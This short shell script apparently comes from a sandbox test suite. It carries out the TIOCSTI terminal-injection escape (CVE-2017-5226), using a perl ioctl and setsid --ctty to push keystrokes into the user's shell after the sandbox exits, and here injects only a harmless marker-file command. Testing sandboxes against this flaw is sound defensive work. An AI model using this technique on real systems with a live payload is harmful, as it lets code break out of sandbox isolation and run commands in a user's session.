#!/bin/sh
# tiocsti: the classic one-liner: perl pushes keystrokes into the terminal
# on stdin with TIOCSTI (0x5412), so the user's shell runs them after the
# sandbox exits (CVE-2017-5226).  setsid --ctty first makes that terminal
# the controlling one, which the kernel wants from a caller without
# CAP_SYS_ADMIN.
. "${TARGETS:-$1}"
setsid --ctty --wait perl -e 'ioctl(STDIN, 0x5412, $_) or die "TIOCSTI: $!\n" for split //, $ARGV[0]' "touch $T_MARKER
"
